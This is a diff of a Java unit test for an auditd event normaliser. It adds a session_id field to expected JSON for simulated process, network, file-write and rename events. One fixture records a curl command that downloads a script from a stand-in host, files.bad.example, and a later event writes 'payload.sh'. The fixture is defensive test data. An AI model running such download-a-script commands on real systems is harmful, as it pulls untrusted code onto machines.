@@ -30,7 +30,7 @@ class AuditdTextTest {
                 "process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z",\
                 "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" \
                 https://files.bad.example/a","working_directory":"/home/ada",\
-                "parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176}}}""".formatted(HOST));
+                "parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176},"session_id":"8"}}""".formatted(HOST));
     }
 
     @Test
@@ -38,7 +38,8 @@ class AuditdTextTest {
         assertThat(EventFacts.of(reader.event(AuditFixtures.CONNECT))).isEqualTo("""
                 {"@timestamp":"2026-03-02T10:00:05.802Z","event":{"action":"network_connection","code":"42",\
                 "dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221",\
-                "pid":2221,"executable":"/usr/bin/curl","name":"curl"},"destination":{"ip":"203.0.113.9","port":443},\
+                "pid":2221,"executable":"/usr/bin/curl","name":"curl","session_id":"8"},\
+                "destination":{"ip":"203.0.113.9","port":443},\
                 "network":{"direction":"egress"}}""".formatted(HOST));
     }
 
@@ -47,7 +48,8 @@ class AuditdTextTest {
         assertThat(EventFacts.of(reader.event(AuditFixtures.OPEN))).isEqualTo("""
                 {"@timestamp":"2026-03-02T10:00:05.903Z","event":{"action":"file_write","code":"257",\
                 "dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221",\
-                "pid":2221,"executable":"/usr/bin/curl","name":"curl","working_directory":"/home/ada"},\
+                "pid":2221,"executable":"/usr/bin/curl","name":"curl","working_directory":"/home/ada",\
+                "session_id":"8"},\
                 "file":{"path":"/home/ada/Downloads/payload.sh","name":"payload.sh","extension":"sh"}}\
                 """.formatted(HOST));
     }
@@ -57,7 +59,8 @@ class AuditdTextTest {
         assertThat(EventFacts.of(reader.event(AuditFixtures.RENAME))).isEqualTo("""
                 {"@timestamp":"2026-03-02T10:00:06.004Z","event":{"action":"file_write","code":"82",\
                 "dataset":"linux.auditd"},%s,"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:3001",\
-                "pid":3001,"executable":"/usr/lib/firefox/firefox","name":"firefox","working_directory":"/home/ada"},\
+                "pid":3001,"executable":"/usr/lib/firefox/firefox","name":"firefox","working_directory":"/home/ada",\
+                "session_id":"8"},\
                 "file":{"path":"/home/ada/Downloads/a.AppImage","name":"a.AppImage","extension":"appimage",\
                 "original_path":"/home/ada/Downloads/a.AppImage.part"}}""".formatted(HOST));
     }
